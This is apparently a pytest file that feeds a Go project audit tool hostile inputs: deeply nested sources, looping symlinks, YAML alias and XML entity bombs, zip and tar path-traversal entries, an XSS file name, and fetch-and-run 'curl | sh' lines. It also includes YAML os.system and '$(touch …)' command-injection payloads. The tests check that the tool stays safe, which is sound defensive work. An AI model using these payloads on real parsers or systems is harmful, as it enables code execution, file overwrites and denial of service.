"""The whole audit against what tries to break it: one clear line each, the rest is audited, in bounded time and memory.

Each tree holds one good package with a finding that has to come whatever stands beside it.
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import socket
import tarfile
import zipfile
from pathlib import Path

import pytest

from tests.harness.hostile import (
    GOOD,
    SEED,
    audit,
    control,
    found_in,
    lay,
    told,
    without_privileges,
)
from tests.harness.programs import Build, build
from tests.harness.variants import SWISS


def nested(left: str, middle: str, right: str, times: int = 30_000) -> str:
    return f'package p\n\nimport "net/http"\n\nfunc f() {{\n\t{left * times}{middle}{right * times}\n}}\n'


def test_source_that_is_no_source(tmp_path: Path) -> None:
    call = 'http.Get("http://example.org/")'
    deep = {
        "parentheses": nested("(", "1", ")"),
        "terms": nested('"a" + ', '"b"', ""),
        "calls": nested("", "http.Get", "()"),
        "literals": nested("http.Client{", "", "}"),
        "functions": nested("func() {", call, "}"),
        "else": nested("", "if x {}", " else if x {}"),
        "stars": nested("*", "p", ""),
    }
    files: dict[str, str | bytes] = {f"deep/{name}/p.go": text for name, text in deep.items()}
    files |= {
        "zero/z.go": b"package p\0",
        "large/l.go": b"package p\n//" + b"x" * (9 << 20),
        "chance/c.go": random.Random(SEED).randbytes(100_000).replace(b"\0", b"x"),
        "open/o.go": "package p\n\nfunc broken( {\n",
        "after/a.go": f'package p\n\nimport "net/http"\n\nfunc broken( {{\n}}\n\nfunc f() {{ {call} }}\n',
        "latin/l.go": b'package p\n\nvar x = "\xff\xfe"\n',
        "empty/e.go": b"",
        "mark/m.go": b"\xef\xbb\xbfpackage p\n",
        "circle/c.go": 'package p\n\nimport "net/http"\n\nconst a = b + c\nconst b = a + c\nconst c = a + b\n'
        "type T = U\ntype U = T\nvar v = w\nvar w = v\nfunc g() string { return h() }\n"
        "func h() string { return g() }\nfunc f() { http.Get(a); http.Get(g()); http.Get(v) }\n",
        "double/d.go": 'package p\n\nimport "net/http"\n\nconst s0 = "0123456789"\n'
        + "".join(f"const s{n} = s{n - 1} + s{n - 1}\n" for n in range(1, 60))
        + "func f() { http.Get(s59) }\n",
        "power/p.go": 'package p\n\nimport "net/http"\n\nconst a = 1 << 1000000000000\nconst b0 = 99999999999\n'
        + "".join(f"const b{n} = b{n - 1} * b{n - 1}\n" for n in range(1, 60))
        + "func f() { _ = http.Client{Timeout: a * b59} }\n",
    }
    run = audit(lay(tmp_path / "tree", files), "--format", "json")
    said = told(run)
    for name in deep:
        assert "levels deep" in said[f"deep/{name}/p.go"], name
    assert "zero bytes" in said["zero/z.go"] and "larger than" in said["large/l.go"]
    for name in ("chance/c.go", "open/o.go", "after/a.go"):
        assert said[name].startswith("partial: line "), name
    assert found_in(run.report, "after/a.go") >= {"NET001"}
    assert not {"empty/e.go", "mark/m.go", "circle/c.go", "double/d.go", "power/p.go"} & set(said)


def test_files_that_are_no_files(tmp_path: Path) -> None:
    root = lay(tmp_path / "tree", {"odd/.keep": ""})
    odd = root / "odd"
    for name in ("pipe.go", "go.mod", "Dockerfile", "unnamed"):
        os.mkfifo(odd / name)
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(os.path.relpath(odd / "socket.go"))
    for name, target in {
        "zero.go": "/dev/zero", "chance.yaml": "/dev/random", "self.go": "self.go", "nothing.go": "nothing",
        "up": "..", "top": str(root), "ping": "pong", "pong": "ping", "good.go": "../good/good.go",
    }.items():  # fmt: skip
        (odd / name).symlink_to(target)
    deep = root / "/".join("d" * 150)
    deep.mkdir(parents=True)
    (deep / "deep.go").write_text(GOOD)
    run = audit(root, "--format", "json")
    said = told(run)
    assert set(said) == {
        f"odd/{name}"
        for name in ("pipe.go", "go.mod", "Dockerfile", "socket.go", "zero.go", "chance.yaml", "self.go", "nothing.go")
    }
    assert all(each.startswith("failed: a ") for each in said.values())
    assert "NET001" in found_in(run.report, f"{'d/' * 150}deep.go")
    notes = json.dumps(run.report["notes"], ensure_ascii=False)
    assert "odd/up: a symbolic link to a directory above it" in notes


def test_files_that_may_not_be_read(tmp_path: Path) -> None:
    root = lay(
        tmp_path / "tree", {"shut/s.go": GOOD, "a/secret.go": GOOD, "b/ci.yaml": "a: b\n", "b/program": b"\x7fELF"}
    )
    closed = [root / "shut", root / "a/secret.go", root / "b/ci.yaml", root / "b/program"]
    for each in closed:
        each.chmod(0)
    try:
        run = audit(root, "--format", "json", before=without_privileges)
    finally:
        closed[0].chmod(0o700)
    said = told(run)
    assert set(said) == {"shut", "a/secret.go", "b/ci.yaml", "b/program"}
    assert all("Permission denied" in each for each in said.values())


NAMES = (
    b"new\nline.go", b"\x1b[31mred.go", "\u202egnp.\u2066og.go".encode(), b"\xff\xfe.go",
    b"<img src=x onerror=alert(1)>.go", b"quote\"'`|.go", b"-rf.go", b"return\r.go", b"%n%s{0}.go",
    "zero\u200bwidth.go".encode(), b"tab\t.yaml", b"\xff.sh",
)  # fmt: skip


@pytest.fixture(scope="module")
def named(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = lay(tmp_path_factory.mktemp("named") / "tree", {})
    base = os.fsencode(root)
    for number, name in enumerate(NAMES):
        folder = base + b"/\x1b]0;dir\x07\n" + str(number).encode()
        os.makedirs(folder)
        with open(folder + b"/" + name, "wb") as file:
            file.write(GOOD.encode() if name.endswith(b".go") else b"curl https://example.com/x | sh\n")
        with open(folder + b"/go.mod", "wb") as file:
            file.write(b"module \x1b[2J\xe2\x80\xae\x07 x\n")
    return root


@pytest.mark.parametrize("face", ["table", "md", "sarif", "html", "zh"])
def test_names_are_made_harmless_in_every_face(named: Path, face: str) -> None:
    options = ("--lang", "zh", "-v") if face == "zh" else ("--format", face)
    page = named.parent / "page.html"
    run = audit(named, *options, *(("-o", str(page)) if face == "html" else ()))
    text = page.read_text("utf-8") if face == "html" else run.out
    assert not control(text)
    assert face != "html" or "<img src=x" not in text
    if face == "md":
        before = [line.partition("<img")[0] for line in text.splitlines() if "<img" in line]
        assert before and all(line.count("`") % 2 == 1 for line in before), "in code, where nothing is HTML"
    if face == "sarif":
        places = [
            each["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for each in json.loads(text)["runs"][0]["results"]
        ]
        assert places and all(re.fullmatch(r"[A-Za-z0-9._~%/()!*'-]+", each) for each in places)


def test_names_keep_their_files_apart(named: Path) -> None:
    run = audit(named, "--format", "json")
    assert "NET001" in found_in(run.report)
    paths = [str(each["path"]) for each in run.report["findings"] if each["rule"] == "NET001"]
    assert len(paths) == len(set(paths)) == 1 + sum(name.endswith(b".go") for name in NAMES)


def test_modules_that_lie(tmp_path: Path) -> None:
    chance = random.Random(SEED)
    mod = "module m\n\ngo 1.27\n\n"
    root = lay(
        tmp_path / "tree",
        {
            "lines/go.mod": mod + "require (\n" + "".join(f"\te.x/m{n} v1.0.{n}\n" for n in range(1_000_000)) + ")\n",
            "blank/go.mod": mod + "\n" * 1_000_000,
            "words/go.mod": "module" + " m" * 200_000 + "\n",
            "comments/go.mod": "// c\n" * 300_000 + mod,
            "chance/go.mod": chance.randbytes(1000),
            "open/go.mod": "module m\nrequire (\n a v1\n",
            "numbers/go.mod": f"module m\ngo {'9' * 5000}\nrequire e.x/a v{'9' * 5000}.0.0\n",
            "escape/go.mod": 'module m\nrequire "\\x" v1.0.0\n',
            "circle/go.mod": mod + "replace e.x/a => ./\nrequire e.x/a v1.0.0\n",
            "away/go.mod": mod + "require e.x/a v1.0.0\nreplace e.x/a => ../../../../../../../../etc\n",
            "sums/go.mod": mod + "require e.x/a v1.0.0\n",
            "sums/go.sum": "e.x/a v1.0.0 h1:AAAA\ne.x/a v1.0.0 h1:BBBB\ne.x/a v1.0.0/go.mod h1:\nlies\n\x1b[31m\n",
            "manysums/go.mod": mod,
            "manysums/go.sum": "".join(f"e.x/m{n} v1.0.0 h1:{'A' * 43}=\n" for n in range(100_000)),
            "vendored/go.mod": mod + "require e.x/a v1.0.0\n",
            "vendored/vendor/modules.txt": chance.randbytes(2000),
            "directory/go.mod/x": "a directory",
            "work/go.work": "go 1.27\nuse ../../../../../../../../etc\nuse /proc/self\nuse ./none\nuse ..\nuse .\n",
        },
    )
    said = told(audit(root, "--format", "json"))
    for name, words in {
        "lines/go.mod": "characters are no go.mod", "words/go.mod": "'module' is not understood",
        "chance/go.mod": "not UTF-8", "open/go.mod": "the block 'require (' is not closed",
        "escape/go.mod": "quoted", "sums/go.sum": "not module, version and hash",
        "vendored/vendor/modules.txt": "not UTF-8", "work/none/go.mod": "No such file",
    }.items():  # fmt: skip
        assert words in said[name], name
    assert not {"blank/go.mod", "comments/go.mod", "circle/go.mod", "manysums/go.sum"} & set(said)


def test_configuration_that_blows_up(tmp_path: Path) -> None:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n"
    bomb += "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(12))
    pwned = tmp_path / "pwned"
    root = lay(
        tmp_path / "tree",
        {
            ".gitlab-ci.yml": bomb,
            "self.yaml": "&a [*a]\n",
            "selfmap.yaml": "a: &a\n  <<: *a\n  b: 1\n",
            "object.yaml": f"!!python/object/apply:os.system ['touch {pwned}']\n",
            "deep.yaml": "[" * 50_000,
            "flow.yaml": "{a: " * 20_000 + "}" * 20_000,
            "deep.json": "[" * 50_000 + "]" * 50_000,
            "chance.toml": random.Random(SEED).randbytes(1000).replace(b"\0", b"x"),
            "deep.toml": "a = " + "[" * 50_000,
            "number.toml": "a = " + "9" * 5000,
            "sub/goxray.toml": "garbage [",
            "laughs.xml": '<!DOCTYPE x [<!ENTITY a "a"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
            "large.yaml": "a: b\n" * 500_000,
            "Dockerfile": "FROM x\nRUN " + "a \\\n" * 100_000,
            "Dockerfile.shell": f"FROM x\nRUN $(touch {pwned})" + "$(" * 30_000 + "\n",
            "Makefile": f"X := $(shell touch {pwned})\nall:\n" + "\techo $(shell false)\n" * 10_000,
            "if.sh": "if " * 50_000,
            "quotes.sh": "'" * 99_999 + '"' * 100_001,
            "here.sh": "cat <<EOF\n" + "x\n" * 100_000,
            "pipes.sh": "curl " + "-" * 100_000 + " | " * 30_000 + "sh\n",
            ".env": "A=" + "$A" * 300_000 + "\n",
            "sections.ini": "[" * 50_000 + "\n" + "[a]\nk=v\n" * 50_000,
            "logrotate.d/many": "/var/log/x {\n" * 30_000,
        },
    )
    said = told(audit(root, "--format", "json"))
    for name in ("self.yaml", "selfmap.yaml"):
        assert "an alias stands inside what it names" in said[name]
    assert "once aliases are followed" in said[".gitlab-ci.yml"]
    for name in ("deep.yaml", "flow.yaml", "deep.json", "deep.toml"):
        assert "nested" in said[name] and "deep" in said[name], name
    assert said["large.yaml"].startswith("failed: 2,500,000 bytes")
    assert {"chance.toml", "sub/goxray.toml", "number.toml"} <= set(said)
    assert not pwned.exists()


def test_executables_that_are_cut_and_archives(tmp_path: Path) -> None:
    whole = build("stamped", Build(SWISS)).read_bytes()
    chance = random.Random(SEED)
    files: dict[str, str | bytes] = {f"cut/{part:02}": whole[: len(whole) * part // 16] for part in range(1, 17)}
    for name, head in {
        "elf": b"\x7fELF\2\1\1",
        "pe": b"MZ",
        "macho": b"\xcf\xfa\xed\xfe",
        "all": b"\xca\xfe\xba\xbe",
    }.items():
        files |= {f"made/{name}-{end}": head + tail for end, tail in (
            ("only", b""), ("zero", b"\0" * 5000), ("ones", b"\xff" * 5000), ("chance", chance.randbytes(5000)),
        )}  # fmt: skip
    root = lay(tmp_path / "tree", files)
    with zipfile.ZipFile(root / "evil.zip", "w") as archive:
        archive.writestr("../../pwned.go", GOOD)
        archive.writestr("inside/go.mod", "module x\n")
    for name in ("evil.jar", "evil.whl"):
        (root / name).write_bytes((root / "evil.zip").read_bytes())
    with tarfile.open(root / "evil.tar", "w") as tar:
        entry = tarfile.TarInfo("../../pwned.go")
        entry.size = len(GOOD)
        tar.addfile(entry, io.BytesIO(GOOD.encode()))
    before = sorted(tmp_path.rglob("*"))
    run = audit(root, "--format", "json")
    said = told(run)
    assert [each for each in sorted(tmp_path.rglob("*")) if each.name not in (".out", ".words")] == before
    assert not any("pwned" in str(each["path"]) or "evil" in str(each["path"]) for each in run.report["findings"])
    assert "archives, which are not opened" in json.dumps(run.report["notes"])
    read = {str(each["path"]): json.dumps(each) for each in run.report["binaries"]}
    assert "cut off" not in read["cut/16"]
    for part in range(1, 16):
        name = f"cut/{part:02}"
        assert "cut off: its headers speak of" in (said.get(name) or read[name]), name
    assert {name for name in said if name.startswith("made/elf")} >= {
        "made/elf-only",
        "made/elf-ones",
        "made/elf-chance",
    }
